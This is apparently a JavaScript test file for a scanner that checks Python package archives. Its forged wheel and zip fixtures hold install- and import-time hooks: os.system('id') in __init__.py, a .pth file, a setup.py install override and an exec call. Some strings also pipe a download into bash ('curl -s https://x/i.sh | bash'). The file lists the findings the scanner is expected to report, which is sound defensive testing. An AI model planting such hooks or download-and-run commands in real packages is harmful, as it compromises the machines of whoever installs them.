import { test } from 'uvu';
import { CODE_RULES } from '#check/rules/code.js';
import { forgeZip } from '../../hostile/forge-zip.js';
import { pythonFiles } from '../sample-archives.js';
import { tellRules } from './tell-rules.js';

await tellRules(CODE_RULES, [
  [
    'packages in the archive: what runs when they are installed or imported, and what libraries do',
    pythonFiles({
      'dep.whl': forgeZip([
        { name: 'dep/__init__.py', data: 'import os\nos.system("id")\n', deflate: true },
        { name: 'dep/tool.py', data: 'import subprocess\ndef f():\n    subprocess.run(["x"])\n' },
        {
          name: 'dep/help.py',
          data: 'import os\ndef f():\n    """curl -s https://x/i.sh | bash"""\n    return "curl -s https://y/i.sh | bash"\n',
        },
        { name: 'dep/base.py', data: 'import subprocess\nclass P(subprocess.Popen):\n    pass\n' },
        { name: 'dep/text.py', data: 'import os\nT = "curl -s https://x/i.sh | bash"\n' },
        { name: 'dep.pth', data: 'import os; os.system("id")\n' },
        { name: 'dep-1.0.data/scripts/dep', data: '#!python\nimport os\nos.system("id")\n' },
        { name: 'dep-1.0.data/scripts/dep.sh', data: '#!/bin/sh\nid\n' },
      ]),
      'dep.zip': forgeZip([
        {
          name: 'dep-1.0/setup.py',
          data: 'import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nexec(open("version.py").read())\nclass I(install):\n    def run(self):\n        os.system("id")\nsetup(cmdclass={"install": I})\n',
        },
      ]),
      'requirements.txt': './dep.whl\n./dep.zip\n',
    }),
    [
      'MAR330 dep.whl!dep/base.py runs subprocess.Popen while it is imported (line 2) @ dep.whl!dep/base.py 2:9',
      'MAR330 dep.whl!dep/help.py has a command that runs what it downloads, or that opens a shell to the network (line 3) @ dep.whl!dep/help.py 3:5',
      'MAR331 dep.whl!dep/text.py has a command that runs what it downloads, or that opens a shell to the network @ dep.whl!dep/text.py 2:5',
      'MAR330 dep.whl!dep/tool.py uses a program: subprocess.run (line 3) @ dep.whl!dep/tool.py 3:5',
      'MAR330 dep.zip!dep-1.0/setup.py runs code from elsewhere while it is imported: exec (line 4), uses code from text while it is imported: exec (line 4) @ dep.zip!dep-1.0/setup.py 4:1',
      'MAR331 dep.whl!dep/__init__.py runs os.system while it is imported @ dep.whl!dep/__init__.py 2:1',
      'MAR331 dep.whl!dep-1.0.data/scripts/dep runs os.system while it is imported @ dep.whl!dep-1.0.data/scripts/dep 3:1',
      'MAR335 dep.whl!dep.pth has lines that Python runs whenever it starts where it is installed @ dep.whl!dep.pth',
      'MAR331 dep.whl!dep.pth runs os.system while it is imported @ dep.whl!dep.pth 1:12',
      'MAR331 dep.zip!dep-1.0/setup.py runs os.system while it is imported @ dep.zip!dep-1.0/setup.py 7:9',
    ],
  ],
]);

test.run();
